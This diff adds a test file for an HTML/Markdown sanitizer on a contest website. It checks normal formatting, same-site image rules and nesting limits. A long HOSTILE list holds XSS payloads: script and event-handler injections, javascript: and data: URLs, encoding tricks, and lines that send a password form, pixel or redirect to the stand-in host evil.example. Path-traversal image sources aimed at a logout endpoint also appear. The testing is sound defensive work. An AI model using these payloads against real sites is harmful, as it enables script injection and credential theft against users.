@@ -1,0 +1,161 @@
+import { describe, expect, test } from 'vitest';
+import { safeHtml } from './safe-html.ts';
+
+describe('what an organiser formats', () => {
+  test.each([
+    ['# Rules', '<h1>Rules</h1>\n'],
+    ['**bold** and _soft_', '<p><strong>bold</strong> and <em>soft</em></p>\n'],
+    ['- one\n- two', '<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n'],
+    ['3. three\n4. four', '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n'],
+    ['> said', '<blockquote>\n<p>said</p>\n</blockquote>\n'],
+    ['<h2>As HTML</h2>', '<h2>As HTML</h2>'],
+    ['<p>One<br />two</p>', '<p>One<br />two</p>'],
+    ['a & b < c', '<p>a &amp; b &lt; c</p>\n'],
+    ['naïve 漢字 🎉', '<p>naïve 漢字 🎉</p>\n'],
+  ])('%s is shown as such', (text, html) => {
+    expect(safeHtml(text)).toBe(html);
+  });
+
+  test('links and tables stay, links without a way back into this page', () => {
+    expect(safeHtml('[map](https://example.org/map "The map")')).toBe(
+      '<p><a href="https://example.org/map" title="The map" rel="noopener noreferrer">map</a></p>\n',
+    );
+    expect(safeHtml('|a|b|\n|-|-|\n|1|2|')).toContain('<td>1</td>');
+    expect(safeHtml('<a href="mailto:help@example.org">help</a>')).toContain('mailto:');
+  });
+
+  test('pictures are shown when they are ours, and nothing is fetched from elsewhere', () => {
+    const ours = '/contests/swag-and-seek/api/assets/logo.png';
+    expect(safeHtml(`![Logo](${ours})`)).toContain(`<img src="${ours}" alt="Logo" />`);
+    expect(safeHtml('<img src="data:image/png;base64,AAAA">')).toContain('data:image/png');
+    for (const src of [
+      'https://evil.example/x.png',
+      '//evil.example/x.png',
+      'data:image/svg+xml;base64,AAAA',
+      'data:text/html,<script>',
+      '/contests/swag-and-seek/api/auth/logout',
+      `${ours}/../../auth/logout`,
+      '/contests/swag-and-seek/api/assets/..',
+      '/contests/swag-and-seek/api/assets/%2E./%2e%2e/auth/logout',
+      '/contests/swag-and-seek/api/assets/..\\auth\\logout',
+      'https://evil.example/contests/swag-and-seek/api/auth/logout',
+      'https://evil.example?/contests/swag-and-seek/api/assets/logo.png',
+      'https:/\\evil.example/x.png',
+      'javascript:alert(1)',
+    ]) {
+      expect(safeHtml(`<img src="${src}">`), src).not.toContain('<img');
+    }
+  });
+});
+
+test('a picture’s address is taken as the Assets tab copies it, with whatever host', () => {
+  const ours = '/contests/swag-and-seek/api/assets/my%20logo.svg';
+  for (const host of ['http://192.168.1.20:3000', 'https://contest.example']) {
+    expect(safeHtml(`![Logo](${host}${ours})`)).toBe(`<p><img src="${ours}" alt="Logo" /></p>\n`);
+  }
+  expect(safeHtml(`<img src="${ours}?v=1">`)).toBe(`<img src="${ours}?v=1" alt="" />`);
+});
+
+test('columns keep their side', () => {
+  const html = safeHtml('|a|b|\n|:-:|-:|\n|1|2|');
+  expect(html).toContain('<td align="center">1</td>');
+  expect(html).toContain('<th align="right">b</th>');
+});
+
+test.each([
+  ['quotations', '>'.repeat(15_000)],
+  ['quotations with spaces', '> '.repeat(7_500)],
+  ['lists', '1. '.repeat(5_000)],
+  ['elements', '<blockquote>'.repeat(1_250)],
+  ['emphasis', '_a'.repeat(7_500)],
+])('thousands of nested %s are shown somehow', (_what, text) => {
+  expect(safeHtml(text).match(/<blockquote>|<ol>/g)?.length ?? 0).toBeLessThanOrEqual(40);
+});
+
+const HOSTILE = [
+  '<script>x()</script>',
+  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>x()</scr</script>ipt>',
+  '<img src=x onerror=x()>',
+  '<img src="x" onerror="x()" onload=x()>',
+  '<svg onload=x()>',
+  '<svg><script>x()</script></svg>',
+  '<svg><animate onbegin=x() attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:x()"><text>y</text></a></svg>',
+  '<svg><foreignObject><iframe src="javascript:x()"></iframe></foreignObject></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=x()>#x"></use></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=x()></style></mglyph></table></mtext></math>',
+  '<math href="javascript:x()">y</math>',
+  '<iframe src="javascript:x()"></iframe>',
+  '<iframe srcdoc="<script>x()</script>"></iframe>',
+  '<object data="javascript:x()"></object>',
+  '<embed src="javascript:x()">',
+  '<applet code=x></applet>',
+  '<a href="javascript:x()">y</a>',
+  '<a href="JaVaScRiPt:x()">y</a>',
+  '<a href="java\tscript:x()">y</a>',
+  '<a href="java\nscript:x()">y</a>',
+  '<a href=" &#14; javascript:x()">y</a>',
+  '<a href="&#106;avascript:x()">y</a>',
+  '<a href="&#x6A;avascript&colon;x()">y</a>',
+  '<a href="vbscript:x()">y</a>',
+  '<a href="data:text/html,<script>x()</script>">y</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">y</a>',
+  '<a href="blob:https://evil.example/x">y</a>',
+  '<a href="//evil.example">y</a>',
+  '<a href=x onclick=x()>y</a>',
+  '<a style="position:fixed;inset:0" href=x>y</a>',
+  '[y](javascript:x())',
+  '[y](JAVASCRIPT:x())',
+  '[y](data:text/html,x)',
+  '![y](javascript:x())',
+  '![y](https://evil.example/pixel.gif)',
+  '<javascript:x()>',
+  '[y]: javascript:x()\n\n[y]',
+  '<form action="https://evil.example"><input name=password></form>',
+  '<button formaction="javascript:x()">y</button>',
+  '<input autofocus onfocus=x()>',
+  '<select onchange=x()></select>',
+  '<textarea autofocus onfocus=x()></textarea>',
+  '<details open ontoggle=x()>y</details>',
+  '<marquee onstart=x()>y</marquee>',
+  '<video><source onerror=x()></video>',
+  '<audio src=x onerror=x()></audio>',
+  '<body onload=x()>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<style>body{display:none}</style>',
+  '<p style="background:url(https://evil.example)">y</p>',
+  '<div style="width:expression(x())">y</div>',
+  '<p class="dashboard" id="app">y</p>',
+  '<template><script>x()</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=x()>"></noscript>',
+  '<noscript><style></noscript><img src=x onerror=x()></style></noscript>',
+  '<!--><img src=x onerror=x()>-->',
+  '<![CDATA[><script>x()</script>]]>',
+  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">x()</x:script>',
+  '<p title="<img src=x onerror=x()>">y</p>',
+  '<xmp><p title="</xmp><img src=x onerror=x()>">',
+  '<title><img src=x onerror=x()></title>',
+  '<plaintext><script>x()</script>',
+  '<isindex action=javascript:x() type=image>',
+  '<b onmouseover=x()>y</b>',
+  '`<script>x()</script>` <script>x()</script>',
+  '<table background="javascript:x()"><td background="javascript:x()">y</table>',
+  '<frameset onload=x()><frame src=javascript:x()></frameset>',
+];
+
+/** Tags with their attributes as they come out; text is no concern. */
+const tagsIn = (html: string): string[] => html.match(/<[^>]*>/g) ?? [];
+
+test.each(HOSTILE)('%s does nothing to a player', (text) => {
+  for (const tag of tagsIn(safeHtml(text))) {
+    expect(tag).toMatch(
+      /^<\/?(h[1-4]|p|br|hr|blockquote|pre|code|ul|ol|li|table|thead|tbody|tr|th|td|strong|b|em|i|u|del|s|sup|sub|a|img)( (href|rel|title|src|alt|start)="[^"]*")* ?\/?>$/,
+    );
+    expect(tag).not.toMatch(/(href|src)="\s*(javascript|vbscript|data:text|blob|\/\/)/i);
+    expect(tag).not.toMatch(/src="(?!\/contests\/swag-and-seek\/api\/assets\/|data:image\/)/);
+  }
+});
